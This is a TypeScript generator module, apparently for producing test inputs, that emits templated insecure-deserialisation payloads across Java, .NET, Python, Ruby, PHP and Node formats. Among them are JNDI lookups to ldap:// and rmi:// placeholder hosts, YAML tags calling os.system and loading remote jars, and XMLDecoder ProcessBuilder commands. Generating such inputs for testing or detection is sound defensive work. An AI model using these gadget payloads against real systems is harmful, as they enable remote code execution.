import type { Random } from '../../../random.js';
import { codeGenerator, other } from '../code-generator.js';

/** A serialised Java object (Object Serialization Stream Protocol, chapter 6): magic, version, TC_OBJECT, TC_CLASSDESC. */
function javaStream(random: Random): string {
  const name = random.pick([
    'java.util.PriorityQueue',
    'java.util.HashSet',
    'java.util.HashMap',
    'javax.management.BadAttributeValueExpException',
    'sun.reflect.annotation.AnnotationInvocationHandler',
    'org.example.Gadget',
  ]);
  const stream = Buffer.concat([
    Buffer.from([0xac, 0xed, 0, 5, 0x73, 0x72, 0, name.length]),
    Buffer.from(name),
    Buffer.from(Array.from({ length: 30 }, () => random.below(256))),
  ]);
  return stream.toString(random.pick(['base64', 'hex', 'base64url']));
}

/** A .NET BinaryFormatter stream ([MS-NRBF] 2.6.1): a header record, then a library. */
function dotnetStream(random: Random): string {
  const library = 'System.Windows.Forms, Version=4.0.0.0';
  const stream = Buffer.concat([
    Buffer.from([0, 1, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 1, 0, 0, 0, 0, 0, 0, 0, 12, 2, 0, 0, 0, library.length]),
    Buffer.from(library),
    Buffer.from(Array.from({ length: 12 }, () => random.below(256))),
  ]);
  return stream.toString('base64');
}

/** Objects of other languages that are calls once they are read: as JSON, YAML, XML, base64. */
export const storedObjects = codeGenerator({
  name: 'stored-calls',
  places: other('stored', 'deserialised'),
  rules: {
    start: [
      '{java}',
      '{java}',
      '{dotnet}',
      '{l}"@type":"{class}","{letters}":"ldap://{host}/x"{r}',
      '{l}"a":{l}"@type":"java.lang.Class","val":"{class}"{r}{r}',
      '{l}"@type":"java.lang.AutoCloseable","@type":"{class}"{r}',
      '["{class}",{l}"dataSourceName":"rmi://{host}/{letters}","autoCommit":true{r}]',
      '{l}"@class":"{class}","{letters}":"ldap://{host}/x"{r}',
      '{l}"$type":"{dotnet-class}","MethodName":"Start","ObjectInstance":{l}"$type":"System.Diagnostics.Process, System"{r}{r}',
      '{l}"__type":"{dotnet-class}","x":"{command}"{r}',
      '!!{class} [!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/"]]]]',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/{letters}.jar"]]]]',
      '!!com.sun.rowset.JdbcRowSetImpl {l}dataSourceName: "ldap://{host}/x", autoCommit: true{r}',
      '!!python/object/apply:os.system ["{command}"]',
      '!!python/object/apply:subprocess.Popen\n- "{command}"',
      '!!python/object/new:type [a,[],{l}x: !!python/name:exec {r}]',
      '!!python/name:os.system',
      '!!python/module:os',
      '--- !ruby/object:Gem::Requirement\nrequirements:\n  {letters}: 1',
      '--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\nfoo: 1',
      '{l}"json_class":"{ruby-class}","{letters}":"{command}"{r}',
      '{l}"^o":"{ruby-class}","{letters}":"x"{r}',
      "!!js/function \"function(){l}require('child_process').exec('{command}'){r}()\"",
      '!<tag:yaml.org,2002:js/function> "function(){l}return process.env{r}"',
      '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>{command}</string></void></array><void method="start"/></object></java>',
      '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>{command}</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
      'O:{digit}:"{letters}":1:{l}s:{digit}:"{letters}";s:2:"id";{r}',
      'a:1:{l}i:0;O:8:"{php-class}":0:{l}{r}{r}',
      '{l}"py/reduce":[{l}"py/type":"os.system"{r},{l}"py/tuple":["{command}"]{r}]{r}',
      '{l}"py/object":"subprocess.Popen","args":["{command}"]{r}',
      '{l}"rce":"_$$ND_FUNC$$_function(){l}return process.env{r}()"{r}',
    ],
    java: javaStream,
    dotnet: dotnetStream,
    class: [
      'com.sun.rowset.JdbcRowSetImpl',
      'org.springframework.context.support.ClassPathXmlApplicationContext',
      'javax.swing.JEditorPane',
      'org.apache.commons.dbcp2.BasicDataSource',
      'ch.qos.logback.core.db.JNDIConnectionSource',
      'com.zaxxer.hikari.HikariDataSource',
    ],
    'dotnet-class': [
      'System.Windows.Data.ObjectDataProvider, PresentationFramework',
      'System.Configuration.Install.AssemblyInstaller, System.Configuration.Install',
      'System.IO.FileInfo, System.IO.FileSystem',
    ],
    'ruby-class': ['Gem::Installer', 'ERB', 'Proc', 'Gem::Requirement'],
    'php-class': ['Exploits', 'SplStack', 'stdClass'].map((name) => name.slice(0, 8)),
  },
});
